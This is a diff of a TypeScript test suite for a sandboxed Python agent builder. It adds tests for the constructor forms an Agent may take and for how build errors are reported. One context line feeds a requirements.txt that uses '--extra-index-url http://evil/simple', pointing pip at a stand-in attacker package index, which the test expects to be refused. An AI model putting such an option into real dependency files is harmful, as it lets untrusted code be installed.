@@ -59,6 +59,46 @@ describeSandbox('agent builder: virtualenv, requirements, sandboxed import check
     expect([syntax.ok, noClass.ok, raising.ok]).toEqual([false, false, false]);
   });
 
+  it('builds and plays agents written as people write them: Agent() or Agent(observation_space, action_space)', async () => {
+    const natural = [
+      // The issue's case: a natural class whose __init__ takes nothing (TypeError before).
+      'class Agent:\n    def __init__(self):\n        self.moves = 0\n\n    def act(self, observation):\n        self.moves += 1\n        return self.moves % 3\n',
+      // No __init__ at all.
+      'class Agent:\n    def act(self, observation):\n        return 0\n',
+      // The spaces by name, in the other order: passed by keyword.
+      'class Agent:\n    def __init__(self, action_space, observation_space):\n        assert action_space["kind"] == "discrete" and observation_space["kind"] == "box"\n\n    def act(self, observation):\n        return 1\n',
+    ];
+    for (const [i, agentPy] of natural.entries()) {
+      const outcome = await build(`s-natural-${i}`, zip(agentPy, ''));
+      if (!outcome.ok) throw new Error(`${outcome.reason}\n${outcome.log}`);
+      const result = await runMatch({
+        environmentId: 'pong',
+        environmentOptions: { targetScore: 1 },
+        seed: 5,
+        agents: [{ id: 'natural', dir: outcome.agentDir, pythonExecutable: outcome.pythonExecutable }, trackingAgent],
+        engine,
+        uidPool: testUidPool,
+      });
+      expect(result.forfeits).toEqual([]);
+    }
+  }, 120_000);
+
+  it('fails a build whose Agent fits neither form, and the log states the rule', async () => {
+    const outcome = await build('s-three-args', zip('class Agent:\n    def __init__(self, env, seed, device):\n        pass\n\n    def act(self, observation):\n        return 0\n', ''));
+    expect(outcome.ok).toBe(false);
+    if (outcome.ok) return;
+    expect(outcome.reason).toContain('Agent(env, seed, device) does not fit');
+    expect(outcome.log).toContain('Agent(observation_space, action_space) or as Agent()');
+    expect(outcome.log).toContain('def __init__(self, observation_space, action_space)');
+    // A TypeError raised inside a fitting __init__ stays the agent's own error, not the rule.
+    const own = await build('s-own-typeerror', zip('class Agent:\n    def __init__(self):\n        raise TypeError("weights have the wrong shape")\n', ''));
+    expect(own.ok).toBe(false);
+    if (!own.ok) {
+      expect(own.reason).toContain('TypeError: weights have the wrong shape');
+      expect(own.log).not.toContain('does not fit');
+    }
+  });
+
   it('refuses pip options in requirements.txt before running pip, and times out slow builds', async () => {
     const options = await build('s-options', zip('class Agent: pass\n', '--extra-index-url http://evil/simple\n'));
     expect(options).toMatchObject({ ok: false, reason: 'requirements.txt line 1: pip options are not allowed ("--extra-index-url http://evil/simple")' });
